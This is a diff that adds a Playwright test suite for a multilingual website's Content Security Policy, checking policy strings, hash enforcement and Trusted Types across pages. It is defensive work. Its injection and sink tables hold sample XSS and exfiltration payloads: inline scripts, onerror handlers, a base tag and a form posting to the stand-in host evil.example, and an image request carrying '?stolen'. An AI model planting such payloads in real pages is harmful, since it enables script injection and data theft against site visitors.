@@ -1,0 +1,255 @@
+/*
+ * The content security policy in a browser. Goes from language to language itself, so it is run once, not once per
+ * language. Every other test watches it too, since a violation is an error in the console.
+ */
+
+import type { BrowserContext, Page } from '@playwright/test';
+import { languages } from '@/i18n/languages';
+import { type Locale, locales } from '@/i18n/locales';
+import { openStreetMapOrigin } from '@/site/map';
+import { href, routes } from '@/site/routes';
+import { enquiryForm, fillIn, send } from './lib/enquiry';
+import { expect, hydrated, test, translator } from './lib/fixtures';
+
+const notFound = 'prices/';
+
+/** What the policy has refused, in every document and frame from now on. */
+async function watchViolations(context: BrowserContext): Promise<readonly string[]> {
+  const violations: string[] = [];
+  await context.exposeFunction('reportViolation', (violation: string) => {
+    violations.push(violation);
+  });
+  await context.addInitScript(() => {
+    addEventListener('securitypolicyviolation', (event) => {
+      const { effectiveDirective, blockedURI, sourceFile, documentURI } = event;
+      const report = Reflect.get(window, 'reportViolation');
+      report(`${effectiveDirective}: ${blockedURI} (${sourceFile ?? ''} on ${documentURI})`);
+    });
+  });
+  return violations;
+}
+
+/** Passes the whole page, so that pictures, film and frame load, and wakes the runtime. */
+async function passWhole(page: Page): Promise<void> {
+  await page.evaluate(async () => {
+    for (let top = 0; top < document.body.scrollHeight; top += innerHeight) {
+      scrollTo({ top, behavior: 'instant' });
+      await new Promise(requestAnimationFrame);
+    }
+  });
+  await hydrated(page);
+  await page.waitForLoadState('networkidle');
+}
+
+async function policyOf(page: Page): Promise<string> {
+  // React takes the element away with a language switch; what it has set stays in force.
+  const policy = page.locator('head > meta[charset]:first-child + meta[http-equiv]');
+  return (await policy.getAttribute('content')) ?? '';
+}
+
+/** The directives that are the same on every page: all but the hashes. */
+function withoutHashes(policy: string): string {
+  return policy.replaceAll(/ 'sha256-[^']+'/g, '');
+}
+
+test.describe('Every page keeps to its policy', () => {
+  const pages = locales.flatMap((locale) => routes.map((route) => href(locale, route)));
+
+  for (const path of pages) {
+    test(path, async ({ page, context }) => {
+      const violations = await watchViolations(context);
+      await page.goto(path);
+      expect(withoutHashes(await policyOf(page))).toBe(
+        [
+          "default-src 'none'",
+          "script-src 'self'",
+          "style-src 'self'",
+          "img-src 'self'",
+          "font-src 'self'",
+          "media-src 'self'",
+          "manifest-src 'self'",
+          "connect-src 'self' https://api.emailjs.com",
+          "frame-src 'self' https://www.openstreetmap.org",
+          "form-action 'self' https://api.emailjs.com",
+          "base-uri 'none'",
+          "require-trusted-types-for 'script'",
+          'trusted-types default',
+        ].join('; '),
+      );
+      await passWhole(page);
+      expect(violations).toEqual([]);
+    });
+  }
+
+  for (const locale of locales) {
+    test(`the 404 in ${locale}`, async ({ page, context, guard }) => {
+      guard.expectConsole(/404/);
+      const violations = await watchViolations(context);
+      await page.goto(href(locale, 'home') + notFound);
+      expect(await policyOf(page)).toContain("default-src 'none'; script-src 'self' 'sha256-");
+      await passWhole(page);
+      expect(violations).toEqual([]);
+    });
+
+    test(`the map in ${locale}, and OpenStreetMap in its frame`, async ({
+      page,
+      context,
+      guard,
+    }) => {
+      guard.allowHost(new URL(openStreetMapOrigin).host);
+      await page.route(`${openStreetMapOrigin}/**`, (route) =>
+        route.fulfill({ contentType: 'text/html', body: '<p>OpenStreetMap</p>' }),
+      );
+      const violations = await watchViolations(context);
+      const t = translator(locale);
+      await page.goto(href(locale, 'contacts'));
+      await passWhole(page);
+      const map = page.frameLocator('iframe');
+      await map.getByRole('link', { name: t('Map.load') }).click();
+      await expect(map.getByText('OpenStreetMap', { exact: true })).toBeVisible();
+      expect(violations).toEqual([]);
+    });
+  }
+});
+
+test.describe('The policy of the page entered by holds for all others', () => {
+  const entries = {
+    en: href('en', 'home'),
+    it: href('it', 'services'),
+    bg: href('bg', 'home') + notFound,
+  } as const;
+
+  for (const [entered, entry] of Object.entries(entries) as [Locale, string][]) {
+    test(`entered by ${entry}: every page, every language, a send`, async ({
+      page,
+      context,
+      emailjs,
+      guard,
+    }) => {
+      guard.tolerateConsole(/404/);
+      const violations = await watchViolations(context);
+      await page.goto(entry);
+      await hydrated(page);
+      const documents: string[] = [];
+      page.on('request', (request) => {
+        if (request.isNavigationRequest() && request.frame() === page.mainFrame())
+          documents.push(request.url());
+      });
+
+      for (const route of ['about', 'certificates', 'home', 'services', 'contacts'] as const) {
+        const t = translator(entered);
+        await page
+          .getByRole('navigation', { name: t('Header.navigation') })
+          .getByRole('link')
+          .nth(routes.indexOf(route))
+          .click();
+        await expect(page).toHaveURL(href(entered, route));
+        await expect(page).toHaveTitle(new RegExp(`^${t(`Meta.${route}.title`)} \\|`));
+      }
+      for (const locale of locales) {
+        await page.getByRole('link', { name: languages[locale].name, exact: true }).click();
+        await expect(page).toHaveURL(href(locale, 'contacts'));
+        await expect(page.locator('html')).toHaveAttribute('lang', locale);
+      }
+      const t = translator('bg');
+      const form = enquiryForm(page, t);
+      await fillIn(form, t);
+      await send(form, t);
+      await expect(page.getByText(t('EnquiryForm.success'))).toBeVisible();
+      expect(emailjs.sent).toHaveLength(1);
+      await passWhole(page);
+      expect(documents).toEqual([]);
+      expect(violations).toEqual([]);
+    });
+  }
+});
+
+test.describe('The policy bites', () => {
+  test('whichever hash is taken out, what it vouches for is refused', async ({
+    page,
+    context,
+    guard,
+  }) => {
+    guard.expectConsole(/violates the following Content Security Policy directive/);
+    // What comes of a page without one of its scripts.
+    guard.tolerateConsole(/^(?!.*violates)/);
+    const violations = await watchViolations(context);
+    await page.goto('/contacts/');
+    const hashes = (await policyOf(page)).match(/'sha256-[^']+' ?/g) ?? [];
+    // The early script, the flight data, the runtime's list of chunks to wait for, the styles.
+    expect(hashes.length).toBeGreaterThanOrEqual(4);
+    expect(violations).toEqual([]);
+
+    for (const [index, hash] of hashes.entries()) {
+      await page.route('**/contacts/', async (route) => {
+        const response = await route.fetch();
+        const html = await response.text();
+        return route.fulfill({ response, body: html.replace(hash, '') });
+      });
+      await page.goto('/contacts/');
+      await expect.poll(() => violations.length, { message: hash }).toBe(index + 1);
+      await page.unroute('**/contacts/');
+    }
+  });
+
+  /** What somebody might get into a page's HTML, and the directive that refuses it. */
+  const injections = {
+    'script-src-elem': '<script>document.title = "reached"</script>',
+    'script-src-attr': '<img src="/icon.svg" alt="" onload="document.title = \'reached\'">',
+    'style-src-elem': '<style>body { background: url(/stolen) }</style>',
+    'style-src-attr': '<p style="background: url(/stolen)">.</p>',
+    'img-src': '<img src="https://evil.example/?stolen" alt="">',
+    'media-src': '<video src="https://evil.example/" preload="auto"></video>',
+    'frame-src': '<iframe src="https://evil.example/"></iframe>',
+    'object-src': '<object data="/certificates/en/iso-9001.pdf"></object>',
+    'base-uri': '<base href="https://evil.example/">',
+    'form-action':
+      '<form id="evil" action="https://evil.example/" method="post"><button>Send</button></form>',
+  } as const;
+
+  test('what is injected into a page is refused', async ({ page, context, guard }) => {
+    guard.allowHost('evil.example');
+    guard.tolerateConsole(/Content Security Policy/);
+    const violations = await watchViolations(context);
+    await page.route('**/contacts/', async (route) => {
+      const response = await route.fetch();
+      const html = await response.text();
+      const injected = Object.values(injections).join('');
+      return route.fulfill({ response, body: html.replace('</body>', `${injected}</body>`) });
+    });
+    await page.goto('/contacts/');
+    const title = await page.title();
+    await page.locator('#evil button').click();
+
+    const refused = () => new Set(violations.map((violation) => violation.split(':')[0]));
+    await expect.poll(() => [...refused()].sort()).toEqual(Object.keys(injections).sort());
+    expect(await page.title()).toBe(title);
+    await expect(page).toHaveURL('/contacts/');
+  });
+
+  /** What a script of the page might do with a visitor's text. */
+  const sinks: Readonly<Record<string, () => unknown>> = {
+    'HTML from a string': () => {
+      document.body.innerHTML = '<img src="x" onerror="alert(1)">';
+    },
+    'an event handler from a string': () => document.body.setAttribute('onclick', 'alert(1)'),
+    'a document from a string': () => document.write('<p>'),
+    'a script from a string': () => {
+      document.createElement('script').text = 'alert(1)';
+    },
+    'a script of another place': () => {
+      document.createElement('script').src = '/certificates/x.js';
+    },
+    'a second policy': () => window.trustedTypes?.createPolicy('mine', { createScriptURL: String }),
+  };
+
+  for (const [name, sink] of Object.entries(sinks)) {
+    test(`${name} throws`, async ({ page, guard }) => {
+      guard.tolerateConsole(/Trusted/);
+      await page.goto('/contacts/');
+      await expect(page.evaluate(sink)).rejects.toThrow(
+        /requires 'Trusted|not a script of this site|"mine" disallowed/,
+      );
+    });
+  }
+});
